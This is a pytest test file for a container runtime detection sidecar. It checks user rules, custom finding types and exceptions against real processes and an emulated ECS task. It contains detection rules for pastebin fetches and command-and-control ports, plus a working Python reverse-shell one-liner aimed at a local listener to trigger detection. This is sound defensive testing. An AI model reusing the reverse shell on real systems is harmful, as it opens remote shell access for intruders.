"""User rules: events from real processes (captured from /proc by the process collector) through the DetectorEngine
with the policy's rule detector, custom types and exceptions; then end to end in the emulated ECS task, where a
rule on a real staged process emits its custom type and an exception silences a real reverse shell in one
container while the same shell in the other still fires."""

from __future__ import annotations

import contextlib
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from taskenv import TaskEnv

from collectors.events import ContainerRef, ProcessInfo, RuntimeEvent
from collectors.process import ProcessCollector
from detectors.base import DetectorContext
from detectors.build import FindingScope
from detectors.engine import DetectorEngine
from detectors.finding import Finding
from detectors.policy import Policy
from detectors.rules import UserRulesDetector

PASTE = "Custom:Runtime/PastebinFetch"
CMD = "Execution:Runtime/SuspiciousCommand"
REVSHELL = "Execution:Runtime/ReverseShell"

POLICY: dict[str, Any] = {
    "lists": {"fetchers": ["curl", "wget"], "build_images": ["*/builder:*"], "c2_ports": [4444, 1337]},
    "rules": [
        {
            "id": "curl-pastebin",
            "description": "{process} fetched a paste in {container}: {commandLine}",
            "type": PASTE,
            "severity": 5,
            "mitre": ["T1105"],
            "events": ["process.exec"],
            "condition": {
                "all": [
                    {"field": "process.name", "in": "@fetchers"},
                    {"field": "process.command_line", "contains": "pastebin.com"},
                    {"not": {"field": "container.image", "glob": "@build_images"}},
                ]
            },
        },
        {
            "id": "sleep-under-cron",
            "description": "a sleep started by a cron-like wrapper",
            "type": CMD,
            "level": "high",
            "events": ["process.exec"],
            "condition": {
                "all": [
                    {"field": "process.executable", "endswith": "/sleep"},
                    {"field": "parent.name", "equals": "sh"},
                    {"field": "ancestor.name", "glob": "cron*"},
                ]
            },
        },
        {
            "id": "odd-port",
            "description": "connection to {remoteIp}:{remotePort} from {exe}",
            "type": "Custom:Runtime/OddPort",
            "severity": 2,
            "events": ["net.connect"],
            "condition": {
                "any": [
                    {"field": "remote.port", "in": "@c2_ports"},
                    {"all": [{"field": "remote.ip", "cidr": "198.51.100.0/24"}, {"field": "remote.port", "gt": 1024}]},
                ]
            },
        },
        {
            "id": "paste-dns",
            "description": "lookup of {domain}",
            "type": "Custom:Runtime/PasteDomain",
            "severity": 3.5,
            "events": ["dns.query"],
            "condition": {"field": "dns.domain", "domain": ["pastebin.com", "*.paste.ee"]},
        },
        {
            "id": "hosts-write",
            "description": "{exe} wrote {filePath}",
            "type": CMD,
            "severity": 2,  # one of the type's own numbers: selects its level "low"
            "events": ["file.modify"],
            "condition": {
                "all": [
                    {"field": "file.path", "glob": "/etc/ho*"},
                    {"field": "file.operation", "in": ["write", "create"]},
                    {"not": {"field": "process.uid", "gt": 0}},
                ]
            },
        },
        {
            "id": "disabled",
            "description": "never",
            "type": CMD,
            "enabled": False,
            "events": ["process.exec"],
            "condition": {"field": "process.name", "glob": "*"},
        },
    ],
}


class Bench:
    """Real processes captured from /proc, and an engine with the policy's rules, custom types and exceptions."""

    def __init__(self, policy: Policy) -> None:
        self.container: ContainerRef | None = None
        self.collector = ProcessCollector(
            lambda e: None, hash_executables=False, resolve_container=lambda r: self.container
        )
        self.ctx = DetectorContext(table=self.collector.table, self_pids=frozenset())
        self.findings: list[dict[str, Any]] = []
        self.engine = DetectorEngine(
            self.ctx,
            FindingScope(),
            self.findings.append,
            detectors=[],
            extra=policy.rule_detectors(self.ctx),
            suppressor=policy,
            custom_types=policy.custom_types(),
            update_interval=0,
        )
        self.procs: list[subprocess.Popen[bytes]] = []

    def start(self, argv: list[str], container: ContainerRef | None, want: str) -> ProcessInfo:
        self.container = container
        p = subprocess.Popen(argv)
        self.procs.append(p)
        deadline = time.monotonic() + 10
        pid = p.pid
        while time.monotonic() < deadline:
            info = self.collector.capture(pid)
            if info is not None and info.name == want and info.complete:  # not read mid-exec
                return info
            kids = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
            if kids and (info is None or info.name != want):
                pid = int(kids[0])
            time.sleep(0.02)
        pytest.fail(f"could not capture {want} under {argv}")

    def feed(self, kind: str, process: ProcessInfo | None, **data: Any) -> list[dict[str, Any]]:
        n = len(self.findings)
        self.engine.on_event(RuntimeEvent(kind, process, data=data or None))
        self.engine.flush(force=True)
        for f in self.findings[n:]:
            Finding.model_validate(f)
        return self.findings[n:]

    def close(self) -> None:
        for p in self.procs:
            p.kill()
            p.wait()


@pytest.fixture
def bench() -> Iterator[Bench]:
    b = Bench(Policy.parse(POLICY, source="rules.yaml"))
    yield b
    b.close()


def named_copy(tmp_path: Path, name: str, source: str = "/bin/sh") -> str:
    """A copy of a real binary under another name: its comm is that name, as a real curl's would be."""
    path = tmp_path / name
    path.write_bytes(Path(source).read_bytes())
    path.chmod(0o755)
    return str(path)


APP = ContainerRef("app", "a1", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/shop:3", source="test")
BUILDER = ContainerRef("build", "b2", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/builder:7", source="test")


def test_rule_detector_is_indexed_by_kind(bench: Bench) -> None:
    (det,) = [d for d in bench.engine.detectors if isinstance(d, UserRulesDetector)]
    assert det.kinds == ("dns.query", "file.modify", "net.connect", "process.exec")
    assert set(det.types) == {PASTE, CMD, "Custom:Runtime/OddPort", "Custom:Runtime/PasteDomain"}
    assert [r.id for r in det.rules_for("process.exec")] == ["curl-pastebin", "sleep-under-cron"]  # not "disabled"
    # a rule that requires exact values of a field is only tested on events with one of them
    paste, cron = det.rules_for("process.exec")
    assert det._index["process.exec"].anchored == {
        "process.name": {"curl": [paste], "wget": [paste]},
        "parent.name": {"sh": [cron]},
    }
    assert det._index["process.exec"].always == []
    assert [r.id for r in det._index["dns.query"].always] == ["paste-dns"]  # a domain leaf: tested on every query


def test_custom_type_on_a_real_exec(bench: Bench, tmp_path: Path) -> None:
    curl = named_copy(tmp_path, "curl")
    proc = bench.start([curl, "-c", "sleep 30; true", "https://pastebin.com/raw/x"], APP, want="curl")
    (f,) = bench.feed("process.exec", proc)
    assert f["type"] == PASTE and f["severity"] == 5.0
    ctx = f["service"]["runtimeDetails"]["context"]
    assert ctx["ruleId"] == "curl-pastebin"
    assert ctx["ruleDescription"] == f"curl[{proc.nspid}] fetched a paste in app: {proc.command_line}"
    assert ctx["commandLineExample"] == proc.command_line == f"{curl} -c sleep 30; true https://pastebin.com/raw/x"
    assert f["title"] == "User rule curl-pastebin matched in container app."
    assert f["description"] == ctx["ruleDescription"]
    assert f["service"]["runtimeDetails"]["process"]["executablePath"] == curl
    # the same command in a builder image, or without the paste site: nothing
    in_builder = bench.start([curl, "-c", "sleep 31; true", "https://pastebin.com/raw/y"], BUILDER, want="curl")
    assert bench.feed("process.exec", in_builder) == []
    plain = bench.start([curl, "-c", "sleep 32; true", "https://example.com/"], APP, want="curl")
    assert bench.feed("process.exec", plain) == []


def test_catalog_type_with_a_level_on_parent_and_ancestor(bench: Bench, tmp_path: Path) -> None:
    cron = named_copy(tmp_path, "crond")
    proc = bench.start([cron, "-c", "sh -c 'sleep 33; true'; true"], APP, want="sleep")
    (f,) = bench.feed("process.exec", proc)
    assert (f["type"], f["severity"]) == (CMD, 8.0)
    assert f["service"]["runtimeDetails"]["context"]["ruleId"] == "sleep-under-cron"
    assert "the user rule sleep-under-cron" in f["description"]  # the catalog's template names the pattern
    # the same sleep, not under a cron-like ancestor
    other = bench.start(["sh", "-c", "sleep 34; true"], APP, want="sleep")
    assert bench.feed("process.exec", other) == []


def test_network_dns_and_file_rules(bench: Bench) -> None:
    proc = bench.start(["sleep", "35"], APP, want="sleep")
    conn = {"protocol": "TCP", "direction": "OUTBOUND", "localIp": "10.0.0.5", "localPort": 50000}
    (f,) = bench.feed("net.connect", proc, **conn, remoteIp="203.0.113.7", remotePort=4444)
    assert (f["type"], f["severity"]) == ("Custom:Runtime/OddPort", 2.0)
    assert f["description"] == "connection to 203.0.113.7:4444 from /usr/bin/sleep"
    assert f["service"]["action"]["networkConnectionAction"]["remoteIpDetails"] == {"ipAddressV4": "203.0.113.7"}
    assert len(bench.feed("net.connect", proc, **conn, remoteIp="198.51.100.9", remotePort=8080)) == 1
    assert bench.feed("net.connect", proc, **conn, remoteIp="198.51.100.9", remotePort=443) == []
    assert bench.feed("net.connect", proc, **conn, remoteIp="203.0.113.7", remotePort=443) == []
    # DNS: the process may be unknown; the container comes from the event
    (d,) = bench.feed("dns.query", None, queryName="Raw.Pastebin.com.", containerName="worker", transport="udp")
    assert (d["type"], d["severity"], d["description"]) == (
        "Custom:Runtime/PasteDomain",
        3.5,
        "lookup of raw.pastebin.com",
    )
    assert d["service"]["action"]["dnsRequestAction"]["domain"] == "raw.pastebin.com"
    assert d["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "worker"
    assert bench.feed("dns.query", proc, queryName="paste.ee.") == []  # "*.paste.ee": subdomains only
    assert len(bench.feed("dns.query", proc, queryName="x.paste.ee")) == 1
    assert bench.feed("dns.query", proc, queryName="notpastebin.com") == []
    # files: root writing /etc/hosts is the low level of the catalog type
    (w,) = bench.feed("file.modify", proc, filePath="/etc/hosts", fileOperation="write", category="hosts")
    assert (w["type"], w["severity"]) == (CMD, 2.0)
    assert bench.feed("file.modify", proc, filePath="/etc/hosts", fileOperation="delete") == []
    assert bench.feed("file.modify", proc, filePath="/etc/passwd", fileOperation="write") == []
    # a kind no rule reads, and events whose fields are missing, never raise
    assert bench.feed("process.exit", proc, exitCode=0) == []
    assert bench.feed("net.connect", None) == []
    assert bench.engine.snapshot().get("errors") is None


def test_exception_silences_a_rule_finding(tmp_path: Path) -> None:
    doc = {**POLICY, "exceptions": [{"type": PASTE, "container": "app", "reason": "the app fetches pastes"}]}
    b = Bench(Policy.parse(doc))
    try:
        curl = named_copy(tmp_path, "wget")
        in_app = b.start([curl, "-c", "sleep 36; true", "pastebin.com/raw/1"], APP, want="wget")
        assert b.feed("process.exec", in_app) == []
        other = ContainerRef("worker", "w1", "registry.example/shop:3", source="test")
        in_worker = b.start([curl, "-c", "sleep 37; true", "pastebin.com/raw/2"], other, want="wget")
        (f,) = b.feed("process.exec", in_worker)
        assert f["type"] == PASTE and f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == (
            "worker"
        )
        assert b.engine.snapshot()["suppressed"] == {"the app fetches pastes": 1}
    finally:
        b.close()


# -- end to end in the emulated task --------------------------------------------------------------------------

PY = "/usr/bin/python3"

REASON = "the worker's debug console is a shell on a socket"
E2E_POLICY = """\
lists:
  fetchers: [curl, wget]
exceptions:
  - type: Execution:Runtime/ReverseShell
    container: "work*"
    reason: "the worker's debug console is a shell on a socket"
rules:
  - id: curl-pastebin
    description: "{process} fetched a paste in {container}"
    type: Custom:Runtime/PastebinFetch
    severity: 5
    mitre: [T1105]
    events: [process.exec]
    condition:
      all:
        - {field: process.name, in: "@fetchers"}
        - {field: process.command_line, contains: pastebin.com}
"""


@contextlib.contextmanager
def listener(host: str) -> Iterator[tuple[socket.socket, int]]:
    srv = socket.socket()
    srv.bind((host, 0))
    srv.listen(4)
    try:
        yield srv, srv.getsockname()[1]
    finally:
        srv.close()


def reverse_shell(task_env: TaskEnv, container: str, srv: socket.socket, port: int) -> int:
    code = (
        f"import os, socket; s = socket.create_connection(('127.0.0.9', {port})); "
        "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
    )
    pid = task_env.spawn(container, [PY, "-c", code])
    conn, _ = srv.accept()
    conn.sendall(b"sleep 3; exit\n")
    conn.close()
    return pid


def test_rules_and_exceptions_in_the_task(task_env: TaskEnv, tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text(E2E_POLICY)
    for c in ("app", "worker"):
        fake = task_env.path_in(c, "/tmp/curl")
        fake.write_bytes(Path("/bin/sh").read_bytes())
        fake.chmod(0o755)
    sidecar = task_env.start_detecting(tmp_path, env={"RUNTIME_SIDECAR_POLICY_FILE": str(policy)})
    # a benign fetch that the rule must not match, then the one it must
    task_env.run("app", ["/tmp/curl", "-c", "sleep 0.3; true", "https://example.com/"])
    task_env.run("app", ["/tmp/curl", "-c", "sleep 0.5; true", "https://pastebin.com/raw/abc"])
    f = sidecar.wait_for_finding(lambda f: f["type"] == "Custom:Runtime/PastebinFetch", timeout=20)
    Finding.model_validate(f)
    assert f["severity"] == 5.0
    ctx = f["service"]["runtimeDetails"]["context"]
    assert ctx["ruleId"] == "curl-pastebin"
    assert ctx["commandLineExample"] == "/tmp/curl -c sleep 0.5; true https://pastebin.com/raw/abc"
    assert ctx["ruleDescription"].startswith("curl[") and ctx["ruleDescription"].endswith("fetched a paste in app")
    assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
    # the same reverse shell in both containers: the exception silences the worker's only
    with listener("127.0.0.9") as (srv, port):
        reverse_shell(task_env, "worker", srv, port)
        app_shell = reverse_shell(task_env, "app", srv, port)
        shell = sidecar.wait_for_finding(lambda f: f["type"] == REVSHELL, timeout=20)
    assert shell["service"]["runtimeDetails"]["process"]["pid"] == app_shell
    time.sleep(2.0)  # the worker's shell has had as long as the app's to be reported
    assert sidecar.stop() == 0
    # the worker's shell was seen (its event is there) and dropped by the exception, which the stats count
    worker_shells = [
        e
        for e in sidecar.events()
        if e["kind"] == "process.stdio_socket" and (e.get("process") or {}).get("containerName") == "worker"
    ]
    assert worker_shells, "the worker's reverse shell was not seen at all"
    stats = [r["stats"] for r in sidecar.logs() if r.get("msg") == "stats" and "detection" in r.get("stats", {})]
    assert stats, "no stats record with the detection stage"
    suppressed = stats[-1]["detection"].get("suppressed", {})
    assert list(suppressed) == [REASON] and suppressed[REASON] >= 1
    findings = sidecar.findings()
    shells = [x for x in findings if x["type"] == REVSHELL]
    assert [x["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] for x in shells] == ["app"]
    pastes = [x for x in findings if x["type"] == "Custom:Runtime/PastebinFetch"]
    assert (
        len(pastes) == 1 and "pastebin.com" in pastes[0]["service"]["runtimeDetails"]["context"]["commandLineExample"]
    )


def test_anchored_and_plain_rules_all_fire_once_each() -> None:
    def r(rid: str, cond: dict[str, Any]) -> dict[str, Any]:
        return {
            "id": rid,
            "description": rid,
            "type": "Custom:Runtime/Sleep",
            "severity": 2,
            "events": ["process.exec"],
            "condition": cond,
        }

    policy = Policy.parse(
        {
            "rules": [
                r(
                    "by-name",
                    {"all": [{"field": "process.name", "in": ["sleep", "nap"]}, {"field": "process.uid", "lt": 1000}]},
                ),
                r("by-exe", {"field": "process.executable", "endswith": "/sleep"}),
                r(
                    "by-container",
                    {"all": [{"field": "container.name", "equals": "app"}, {"field": "process.name", "glob": "sl*"}]},
                ),
                r("by-other-name", {"field": "process.name", "equals": "curl"}),
            ]
        }
    )
    b = Bench(policy)
    try:
        proc = b.start(["sleep", "38"], APP, want="sleep")
        got = b.feed("process.exec", proc)
        assert [f["service"]["runtimeDetails"]["context"]["ruleId"] for f in got] == [
            "by-name",
            "by-exe",
            "by-container",
        ]
        worker = ContainerRef("worker", "w1", "registry.example/shop:3", source="test")
        other = b.start(["sleep", "39"], worker, want="sleep")
        assert [f["service"]["runtimeDetails"]["context"]["ruleId"] for f in b.feed("process.exec", other)] == [
            "by-name",
            "by-exe",
        ]
    finally:
        b.close()
